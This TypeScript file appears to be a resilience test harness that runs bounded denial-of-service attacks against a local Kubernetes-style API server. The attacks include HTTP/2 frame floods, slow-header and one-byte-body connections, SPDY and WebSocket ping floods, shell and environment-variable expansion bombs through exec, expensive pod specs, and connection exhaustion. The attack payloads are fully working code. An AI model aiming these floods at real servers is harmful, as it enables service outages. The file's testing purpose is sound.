/**
 * The attacks by a hostile user and by unauthenticated clients, which `attack-program.ts` repeats. Each attack sends a
 * limited number of bytes and ends on its own. The user `alice` may edit only the namespaces `hostile` and `hooked`.
 */
import { once } from 'node:events'
import { request } from 'node:https'
import type { Duplex } from 'node:stream'
import { setTimeout as delay } from 'node:timers/promises'
import { connect, type TLSSocket } from 'node:tls'
import { HttpClient } from '../support/http-client.ts'
import { endHeaders, endStream, frame, number, plainHeaders, preface, requestFrame } from '../support/http2-frames.ts'
import { SpdyClient } from '../support/spdy-client.ts'

export const hostileNamespace = 'hostile'
export const hookedNamespace = 'hooked'
const core = '/api/v1/namespaces'
const pods = `${core}/${hostileNamespace}/pods`
const hostileMaps = `${core}/${hostileNamespace}/configmaps`
const widgets = `/apis/stable.example.com/v1/namespaces/${hostileNamespace}/widgets`
const authorization = 'Bearer alice-token'
/** Time in milliseconds for which an attacker keeps a connection open or waits for a command to end. */
const heldMs = 2_000

export interface Target {
  readonly port: number
  readonly ca: string
}

export interface Attack {
  /** The delay between two attacks, in milliseconds. */
  readonly gapMs: number
  /** Attacks once, and returns the number of bytes sent, not counting TLS overhead. */
  readonly run: (target: Attacker, turn: number) => Promise<number>
}

/** Connections of the hostile user and of unauthenticated clients to one server. */
export class Attacker {
  readonly client: HttpClient
  readonly #target: Target

  constructor(target: Target) {
    this.#target = target
    this.client = new HttpClient({ ...target, token: 'alice-token' })
  }

  async open(alpn: 'h2' | 'http/1.1'): Promise<TLSSocket> {
    const socket = connect({ host: '127.0.0.1', ...this.#target, ALPNProtocols: [alpn] })
    socket.setTimeout(4 * heldMs, () => socket.destroy())
    await once(socket, 'secureConnect')
    socket.on('error', () => socket.destroy())
    return socket.resume()
  }

  /** Opens an exec connection, which the server upgrades to another protocol. */
  async exec(pod: string, command: readonly string[], headers: { readonly [name: string]: string }): Promise<Duplex> {
    const query = new URLSearchParams([...command.map((word) => ['command', word]), ['stdout', '1'], ['stdin', '1']])
    const asked = request({
      host: '127.0.0.1',
      ...this.#target,
      agent: false,
      path: `${pods}/${pod}/exec?${query}`,
      headers: { authorization, connection: 'Upgrade', ...headers },
    })
    asked.end()
    const { promise, resolve, reject } = Promise.withResolvers<Duplex>()
    asked.on('upgrade', (_, socket) => resolve(socket.on('error', () => socket.destroy())))
    asked.on('response', ({ statusCode }) => reject(new Error(`exec: ${statusCode}`)))
    asked.on('error', reject)
    return await promise
  }
}

const webSocket = {
  upgrade: 'websocket',
  'sec-websocket-version': '13',
  'sec-websocket-key': 'AAAAAAAAAAAAAAAAAAAAAA==',
  'sec-websocket-protocol': 'v4.channel.k8s.io',
}
const spdy = { upgrade: 'SPDY/3.1', 'x-stream-protocol-version': 'v4.channel.k8s.io' }

const numbers = (length: number) => Array.from({ length }, (_, i) => i)
const many = (count: number, make: (i: number) => Buffer) => Buffer.concat(numbers(count).map(make))
const byte = Buffer.from('x')

/**
 * Writes all parts unless the server closes the connection, then keeps the connection open for a moment and closes it.
 */
async function sendAndHold(socket: Duplex, parts: readonly (Buffer | string)[], holdMs = heldMs): Promise<number> {
  let bytes = 0
  const held = delay(holdMs)
  const isClosed = new Promise<void>((resolve) => socket.once('close', resolve))
  for (const part of parts) {
    if (socket.destroyed) break
    bytes += part.length
    // The callback never runs if the server has stopped reading.
    const isTaken = new Promise<boolean>((resolve) => socket.write(part, () => resolve(true)))
    if (!(await Promise.race([isTaken, delay(2 * heldMs, false)]))) break
  }
  await Promise.race([held, isClosed])
  socket.destroy()
  return bytes
}

// Creates an attack that runs a command in a simulated container.

function execAttack(pod: string, command: readonly string[]): Attack['run'] {
  return async (attacker) => {
    const socket = await attacker.exec(pod, command, webSocket)
    const isOver = new Promise<void>((resolve) => {
      socket.on('close', resolve)
      // The last line of the output is the exit status of the command.
      socket.on('data', (chunk: Buffer) => chunk.includes('"status":') && resolve())
    })
    await Promise.race([isOver, delay(2 * heldMs)])
    socket.destroy()
    return command.join('').length
  }
}

const plainPod = { automountServiceAccountToken: false, terminationGracePeriodSeconds: 0 }
const container = (more: object = {}) => ({ ...plainPod, containers: [{ name: 'c', image: 'i', ...more }] })
const doubling = numbers(24).map((i) => ({
  name: `V${i}`,
  value: i === 0 ? 'x'.repeat(16) : `$(V${i - 1})$(V${i - 1})`,
}))

/** Pods that run before the attacks start. */
export const victims: { readonly [name: string]: object } = {
  shell: container(),
  unclosed: container({ env: [{ name: 'A', value: '$('.repeat(60_000) }] }),
  doubling: container({ env: doubling }),
}

/** Creates the user's own objects to which the attacks refer. */
export async function prepare({ client }: Attacker): Promise<void> {
  const create = async (path: string, body: object) => {
    const { status, text } = await client.post(path, body)
    if (status !== 201) throw new Error(`${path}: ${text.slice(0, 500)}`)
  }
  await create(hostileMaps, { metadata: { name: 'large' }, data: { key: 'x'.repeat(900_000) } })
  for (const [name, spec] of Object.entries(victims)) await create(pods, { metadata: { name }, spec })
  // Each pod has different labels, which the scheduler compares with constraints.
  for (const i of numbers(40))
    await create(pods, { metadata: { name: `labeled-${i}`, labels: { app: `a${i}` } }, spec: container() })
}

/** Creates a pod that is expensive to schedule, and deletes it a moment later. */
function podAttack(prefix: string, spec: object, labels: object = {}): Attack['run'] {
  return async ({ client }, turn) => {
    const name = `${prefix}-${turn}`
    const raw = JSON.stringify({ metadata: { name, labels }, spec })
    const { status, text } = await client.send(pods, { method: 'POST', raw, headers: json })
    await delay(heldMs)
    await client.delete(`${pods}/${name}`)
    if (status !== 201) throw new Error(`${prefix}: ${status} ${text.slice(0, 200)}`)
    return raw.length
  }
}

const json = { 'content-type': 'application/json' }
const copies = numbers(200).map((i) => ({ key: 'key', path: `p${i}` }))
const anyApp = { labelSelector: { matchExpressions: [{ key: 'app', operator: 'Exists' }] } }
const spread = numbers(500).map((i) => ({
  ...anyApp,
  topologyKey: `place-${i}`,
  maxSkew: 5000,
  whenUnsatisfiable: i % 2 === 0 ? 'DoNotSchedule' : 'ScheduleAnyway',
}))

function customAttack(prefix: string, members: object): Attack['run'] {
  const type = { apiVersion: 'stable.example.com/v1', kind: 'Widget' }
  return async ({ client }, turn) => {
    const raw = JSON.stringify({ ...type, metadata: { name: `${prefix}-${turn}` }, ...members })
    // A stored object would stay in the watch history, which has separate limits and lasts for minutes.
    const { status, text } = await client.send(`${widgets}?dryRun=All`, { method: 'POST', raw, headers: json })
    if (status !== 201 && status !== 422) throw new Error(`${prefix}: ${status} ${text.slice(0, 200)}`)
    return raw.length
  }
}

const embedded = { apiVersion: 'v1', kind: 'A', metadata: { labels: { a: 'b' }, annotations: { c: 'd' } } }

// Send bodies in tiny parts.

const post = { ':path': hostileMaps, ':method': 'POST', authorization, 'content-type': 'application/json' }
const postHead = (...lines: readonly string[]) =>
  [`POST ${hostileMaps} HTTP/1.1`, 'Host: x', `Authorization: ${authorization}`, ...lines, '', ''].join('\r\n')
const longRequest = (stream: number) =>
  requestFrame(stream, { ':path': '/', 'x-filler': 'x'.repeat(16_000) }, endHeaders | endStream)

function onConnection(alpn: 'h2' | 'http/1.1', parts: readonly (Buffer | string)[]): Attack['run'] {
  return async (attacker) => await sendAndHold(await attacker.open(alpn), parts)
}

// Frames that belong to no request, sent by unauthenticated clients.

const window = (value: number) => Buffer.concat([Buffer.from([0, 4]), number(value)])
const heldStreams = many(250, (i) => frame('headers', endHeaders, 2 * i + 1, plainHeaders))
const megabyteOf = (one: Buffer) => many(Math.ceil((1024 * 1024) / one.length), () => one)
const frameFloods: readonly Buffer[] = [
  Buffer.concat([
    preface,
    heldStreams,
    megabyteOf(
      frame(
        'settings',
        0,
        0,
        many(2_730, (i) => window(1000 + (i % 2))),
      ),
    ),
  ]),
  Buffer.concat([preface, megabyteOf(frame('settings', 0, 0))]),
  Buffer.concat([preface, megabyteOf(frame('ping', 0, 0, Buffer.alloc(8)))]),
  Buffer.concat([
    ...[preface, heldStreams],
    many(60_000, (i) => frame('headers', endHeaders | endStream, 2 * (250 + i) + 1, plainHeaders)),
  ]),
  Buffer.concat([preface, heldStreams, megabyteOf(frame('window', 0, 1, number(1)))]),
  Buffer.concat([preface, heldStreams, megabyteOf(frame('data', 0, 1))]),
]

// Unauthenticated connections that send slowly.

const maxHeaderBytes = 128 * 1024
const slowHeads: readonly { readonly alpn: 'h2' | 'http/1.1'; readonly parts: readonly (Buffer | string)[] }[] = [
  { alpn: 'h2', parts: [preface, ...Array(1_000).fill(byte)] },
  {
    alpn: 'h2',
    parts: [preface, frame('headers', endStream, 1), many(13_000, () => frame('continuation', 0, 1, byte))],
  },
  {
    alpn: 'http/1.1',
    parts: [`GET / HTTP/1.1\r\nHost: x\r\nX-A: ${'x'.repeat(maxHeaderBytes - 5_000)}`, ...Array(500).fill(byte)],
  },
  { alpn: 'http/1.1', parts: [`GET / HTTP/1.1\r\nHost: x\r\n${'a:\r\n'.repeat(maxHeaderBytes / 4 - 100)}`] },
]

/** Floods an exec connection without reading the responses. */
function unreadAttack(headers: { readonly [name: string]: string }, parts: readonly Buffer[]): Attack['run'] {
  return async (attacker) => {
    const socket = await attacker.exec('shell', ['sh'], headers)
    socket.pause()
    return await sendAndHold(socket, parts)
  }
}

const spdyFrame = (type: number, ...values: readonly number[]) =>
  Buffer.concat([Buffer.from([0x80, 3, 0, type]), number(4 * values.length), ...values.map(number)])
const mask = Buffer.from([1, 2, 3, 4])

function webSocketFrame(opcode: number, payload: Buffer): Buffer {
  const length = payload.length < 126 ? [payload.length] : [126, payload.length >> 8, payload.length & 0xff]
  const head = Buffer.from([0x80 | opcode, length[0]! | 0x80, ...length.slice(1)])
  return Buffer.concat([head, mask, payload.map((each, i) => each ^ mask[i & 3]!)])
}

const bytesOf = (buffer: Buffer) => numbers(buffer.length).map((i) => buffer.subarray(i, i + 1))
const inParts = (buffer: Buffer, size: number) =>
  numbers(Math.ceil(buffer.length / size)).map((i) => buffer.subarray(i * size, (i + 1) * size))

/** Connections of one user that remain open during the whole attack. */
const heldConnections: TLSSocket[] = []
const maxHeldConnections = 1_000

async function holdConnections(attacker: Attacker): Promise<number> {
  if (heldConnections.length >= maxHeldConnections) return 0
  const head = `GET ${hostileMaps}/none HTTP/1.1\r\nHost: x\r\nAuthorization: ${authorization}\r\n\r\n`
  const sockets = await Promise.all(numbers(5).map(() => attacker.open('http/1.1')))
  for (const socket of sockets) {
    socket.setTimeout(0)
    socket.write(head)
  }
  heldConnections.push(...sockets)
  return sockets.length * head.length
}

export function closeHeldConnections(): void {
  for (const socket of heldConnections) socket.destroy()
}

export const attacks: { readonly [name: string]: Attack } = {
  'exec: a shell variable that doubles itself': {
    gapMs: 250,
    run: execAttack('shell', ['sh', '-c', `A=xxxxxxxx; ${'A=$A$A; '.repeat(26)}echo $A`]),
  },
  'exec: a line that runs itself recursively': {
    gapMs: 500,
    run: execAttack('shell', ['sh', '-c', `A='${'sh -c "$A";'.repeat(50)}'; sh -c "$A"`]),
  },
  'exec: references that are not closed': { gapMs: 250, run: execAttack('unclosed', ['printenv', 'A']) },
  'exec: variables that double each other': { gapMs: 250, run: execAttack('doubling', ['env']) },
  'a pod that mounts one large key 200 times': {
    gapMs: 500,
    run: podAttack('copies', {
      ...container(),
      volumes: [{ name: 'v', configMap: { name: 'large', items: copies } }],
    }),
  },
  'a pod with 500 spread constraints': {
    gapMs: 500,
    run: podAttack('spread', { ...container(), topologySpreadConstraints: spread }, { app: 'spread' }),
  },
  'a custom object with a long duration': { gapMs: 500, run: customAttack('long', { time: '1'.repeat(164_000) }) },
  'a custom object with 11,000 embedded objects': {
    gapMs: 2_000,
    run: customAttack('wide', { list: numbers(11_000).map(() => embedded) }),
  },
  'HTTP/2: a body in DATA frames of one byte': {
    gapMs: 500,
    run: onConnection('h2', [preface, requestFrame(1, post), many(60_000, () => frame('data', 0, 1, byte))]),
  },
  'HTTP/2: one byte of a body in each TLS record of 16 KiB': {
    gapMs: 500,
    run: onConnection('h2', [
      ...[preface, requestFrame(1, post)],
      ...numbers(200).map((i) => Buffer.concat([frame('data', 0, 1, byte), longRequest(2 * i + 3)])),
    ]),
  },
  'HTTP/1.1: a body in TLS records of one byte': {
    gapMs: 500,
    run: onConnection('http/1.1', [postHead('Content-Length: 100000'), ...Array(5_000).fill(byte)]),
  },
  'HTTP/1.1: a body in chunks of one byte': {
    gapMs: 500,
    run: onConnection('http/1.1', [postHead('Transfer-Encoding: chunked'), '1\r\nx\r\n'.repeat(60_000)]),
  },
  'unauthenticated: a megabyte of frames without a request': {
    gapMs: 250,
    run: async (attacker, turn) =>
      await sendAndHold(await attacker.open('h2'), [frameFloods[turn % frameFloods.length]!]),
  },
  'unauthenticated: connections that send slowly': {
    gapMs: 250,
    run: async (attacker, turn) => {
      const { alpn, parts } = slowHeads[turn % slowHeads.length]!
      const sockets = await Promise.all(numbers(8).map(() => attacker.open(alpn)))
      const bytes = await Promise.all(sockets.map((socket) => sendAndHold(socket, parts)))
      return bytes.reduce((sum, each) => sum + each, 0)
    },
  },
  'up to 1,000 connections from one user': { gapMs: 100, run: holdConnections },
  'SPDY: pings with unread responses': {
    gapMs: 500,
    run: unreadAttack(
      spdy,
      inParts(
        many(100_000, (i) => spdyFrame(6, 2 * i + 1)),
        16_384,
      ),
    ),
  },
  'SPDY: windows and data of streams that do not exist': {
    gapMs: 500,
    run: async (attacker) => {
      const socket = await attacker.exec('shell', ['sh'], spdy)
      const client = new SpdyClient(socket)
      for (const streamtype of ['error', 'stdin', 'stdout']) client.open({ streamtype })
      const frames = many(20_000, (i) =>
        Buffer.concat([spdyFrame(9, 2 * i + 101, 1), number(2 * i + 101), number(1), byte]),
      )
      return await sendAndHold(socket, inParts(frames, 16_384))
    },
  },
  'WebSocket: pings with unread responses': {
    gapMs: 500,
    run: unreadAttack(
      webSocket,
      inParts(
        many(8_000, () => webSocketFrame(9, Buffer.alloc(125))),
        16_384,
      ),
    ),
  },
  'WebSocket: a message in TLS records of one byte': {
    gapMs: 500,
    run: unreadAttack(webSocket, bytesOf(webSocketFrame(2, Buffer.alloc(30_000))).slice(0, 5_000)),
  },
  'a webhook that floods its trailers': {
    gapMs: 500,
    run: async ({ client }, turn) => {
      const raw = JSON.stringify({ metadata: { name: `hooked-${turn}` } })
      await client.send(`${core}/${hookedNamespace}/configmaps`, { method: 'POST', raw, headers: json })
      await client.delete(`${core}/${hookedNamespace}/configmaps/hooked-${turn}`)
      return raw.length
    },
  },
}
